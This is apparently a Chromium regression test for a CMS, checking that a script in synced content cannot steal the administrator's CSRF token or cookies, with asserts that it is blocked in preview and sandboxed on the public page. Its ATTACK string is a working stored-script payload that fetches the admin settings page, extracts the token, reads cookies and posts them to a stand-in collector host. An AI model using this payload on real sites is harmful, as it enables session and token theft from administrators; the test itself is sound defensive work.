"""Issue 16, finding 4, replayed in Chromium: a content body with a <script> that fetches the
Security Configurator as the signed-in Administrator and posts its CSRF token elsewhere. In the
Workarea's preview the script does not run; on the public site page it runs, but sandboxed into
an opaque origin: it cannot read the Workarea's answer, nor the cookies, and no token leaves.
The Workarea's own screens still work under their policy (no script of ours is refused)."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.db_sync_helpers import run_python
from tests.real_instances import ADMIN_PASSWORD

pytestmark = [pytest.mark.slow, pytest.mark.browser]

ATTACK = """<p>Spring opening</p>
<script>
(async () => {
  const report = (what) => fetch("COLLECTOR/" + encodeURIComponent(what),
                                 {method: "POST", mode: "no-cors", body: what});
  await report("ran origin=" + self.origin);
  let token = "unread";
  try {
    const answer = await fetch("/workarea/settings/synchronization/security/",
                               {credentials: "include"});
    const found = (await answer.text()).match(/name="csrfmiddlewaretoken" value="([^"]+)"/);
    token = found ? found[1] : "no token in the answer";
  } catch (error) { token = "fetch refused"; }
  let cookies;
  try { cookies = "cookie=" + document.cookie; } catch (error) { cookies = "cookie refused"; }
  await report(cookies);
  await report("token=" + token);
})();
</script>"""

CREATE = """
from cms import content as content_service
from cms.models import Folder, User
admin = User.objects.get(username="admin")
folder = Folder.objects.create(name="Synced from a peer")
item = content_service.create_content(folder, "Spring", {html!r}, admin)
content_service.approve_content(item, admin)
from syncengine.models import Collision
for n in (1, 2):
    Collision.objects.create(kind="user", table_name="cms_user", row_id=10000 + n,
                             original_name=f"Same{{n}}", modified_name=f"Same{{n}}{{10000 + n}}")
result = item.id
"""


class Collector:
    """An outside server that records what reaches it (the attacker's)."""

    def __init__(self) -> None:
        self.received: list[str] = []
        self.token_reported = threading.Event()
        collector = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802 — http.server's name
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode(errors="replace")
                collector.received.append(f"{self.path} {body}")
                if body.startswith("token="):
                    collector.token_reported.set()
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"


@contextmanager
def collecting() -> Iterator[Collector]:
    collector = Collector()
    thread = threading.Thread(target=collector.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield collector
    finally:
        collector.server.shutdown()
        collector.server.server_close()
        thread.join()


def test_a_script_in_synced_content_cannot_take_the_administrators_csrf_token(
        real_instances, chromium_page):
    alpha = real_instances("alpha")
    page = chromium_page
    console: list[str] = []
    page.on("console", lambda message: console.append(message.text))
    with collecting() as collector, alpha.serving():
        item = run_python(alpha, CREATE.format(html=ATTACK.replace("COLLECTOR", collector.url)))

        page.goto(f"{alpha.web_url}/accounts/login/")
        page.fill("#id_username", "admin")
        page.fill("#id_password", ADMIN_PASSWORD)
        page.click("button:text('Sign in')")
        page.wait_for_url("**/workarea/**")
        page.goto(f"{alpha.web_url}/workarea/settings/synchronization/security/")
        token = page.locator("input[name=csrfmiddlewaretoken]").first.input_value()
        assert len(token) > 20

        # The Workarea's preview: the script is blocked (the browser says so).
        with page.expect_console_message(lambda m: "Blocked script execution" in m.text):
            page.goto(f"{alpha.web_url}/workarea/content/{item}/")
        page.wait_for_selector("iframe.preview")

        # The public site page, signed in: the script runs in an opaque origin.
        page.goto(f"{alpha.web_url}/site/content/{item}/")
        assert page.locator("p", has_text="Spring opening").count() == 1
        assert collector.token_reported.wait(30), (collector.received, console)

        reports = [entry.split(" ", 1)[1] for entry in collector.received]
        assert "ran origin=null" in reports  # it ran, and not as the Workarea's origin
        assert "cookie refused" in reports
        assert "token=fetch refused" in reports
        assert not any(token in entry for entry in collector.received)
        assert len(reports) == 3  # nothing came from the preview

        # The Workarea's own scripts still run under its policy.
        page.goto(f"{alpha.web_url}/workarea/settings/synchronization/collisions/")
        page.check("input[data-select-all]")
        boxes = page.locator("#collisions-user tbody input[type=checkbox]")
        assert boxes.count() == 2
        assert all(boxes.nth(n).is_checked() for n in range(2))
        page.goto(f"{alpha.web_url}/workarea/content/new/?folder=1")
        refused = [text for text in console if "Content Security Policy" in text]
        assert refused == [], refused
